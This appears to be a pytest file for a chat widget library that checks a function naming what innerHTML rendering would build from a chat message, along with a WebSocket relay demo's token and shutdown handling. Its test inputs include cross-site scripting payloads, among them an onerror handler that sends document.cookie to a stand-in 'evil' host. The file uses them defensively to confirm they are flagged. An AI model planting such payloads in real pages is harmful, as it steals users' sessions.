"""What the seed's ``innerHTML`` rendering would build from a chat message, told without rendering it; the
demo's tokens and the WebSocket the kernel relays for its page."""

from __future__ import annotations

import queue
import threading
from typing import Any

import comm
import pytest
from comm.base_comm import BaseComm
from wsutil import mint

from ivs_widgets.chat.room import ChatToken
from ivs_widgets.sandbox import Sandbox
from ivs_widgets.widgets.seed_demo import SeedChatDemo, innerhtml_effects
from ivs_widgets.widgets.websocket_relay import GOING_AWAY

TIMEOUT = 10


def test_plain_text_builds_nothing_but_text() -> None:
    assert innerhtml_effects("see you at 5 <3") == ["only text: nothing but characters on the screen"]


def test_an_event_handler_is_named_as_code_the_sender_would_run() -> None:
    effects = innerhtml_effects('<img src=x onerror="fetch(`//evil/?c=`+document.cookie)">')
    assert effects[0] == "a <img> element"
    assert "onerror handler" in effects[1] and "document.cookie" in effects[1]


def test_javascript_urls_and_script_like_tags_are_flagged() -> None:
    effects = innerhtml_effects('<a href=" JavaScript:alert(1)">win</a><iframe src=//evil></iframe>')
    assert any("href=' JavaScript:alert(1)'" in line for line in effects)
    assert any("<iframe>" in line and "loads" in line for line in effects)


class Page:
    """The page's end of a SeedChatDemo's comm: what the widget sends it, and what it sends the widget."""

    def __init__(self) -> None:
        self.received: queue.Queue[Any] = queue.Queue()

    def say(self, demo: SeedChatDemo, content: Any) -> None:
        demo.comm.handle_msg({"content": {"data": {"method": "custom", "content": content}}, "buffers": []})

    def next(self) -> Any:
        """The next custom message from the widget."""
        while True:
            data = self.received.get(timeout=TIMEOUT)
            if data.get("method") == "custom":
                return data["content"]


@pytest.fixture
def page(monkeypatch: pytest.MonkeyPatch) -> Page:
    """Widgets made from now on talk to this page over a comm that records what they send."""
    page = Page()

    class Recording(BaseComm):
        def publish_msg(self, msg_type: str, data: Any = None, metadata: Any = None, buffers: Any = None,
                        **keys: Any) -> None:
            page.received.put(data or {})

    monkeypatch.setattr(comm, "create_comm", Recording)
    return page


def test_after_end_the_page_gets_no_token(page: Page) -> None:
    minted: list[str] = []
    demo = SeedChatDemo("ws://127.0.0.1:9", lambda: minted.append("x") or ChatToken("t"), username="Ada")
    demo.end()
    page.say(demo, {"action": "token"})
    assert minted == []
    demo.close()


@pytest.mark.parametrize("ending", ["end", "close"])
def test_the_page_chats_through_the_kernel_until_the_demo_ends(page: Page, sandbox: Sandbox, room: dict[str, Any],
                                                               ending: str) -> None:
    demo = SeedChatDemo(sandbox.messaging_endpoint, lambda: ChatToken(mint(sandbox, room["arn"])), username="Ada")
    page.say(demo, {"action": "token"})
    token = page.next()["token"]
    page.say(demo, ["not", "an", "object"])  # ignored, not raised
    page.say(demo, {"type": "ws-open", "id": "v1", "url": sandbox.messaging_endpoint, "protocols": [token]})
    assert page.next() == {"type": "ws-open", "id": "v1", "protocol": token}
    demo.comm.handle_msg({"content": {"data": {"method": "update", "state": {"route_in_use": "relay",
                                                                             "state": "open"}}}, "buffers": []})
    assert repr(demo) == "<SeedChatDemo open, relayed by the kernel, 0 received, as 'Ada'>"

    getattr(demo, ending)()  # the kernel's socket goes with the widget, or when the notebook ends the demo
    assert page.next() == {"type": "ws-close", "id": "v1", "code": GOING_AWAY, "reason": "the notebook closed the demo",
                           "wasClean": True}
    assert [thread for thread in threading.enumerate() if thread.name == "ivs-seed-relay"] == []
    demo.close()
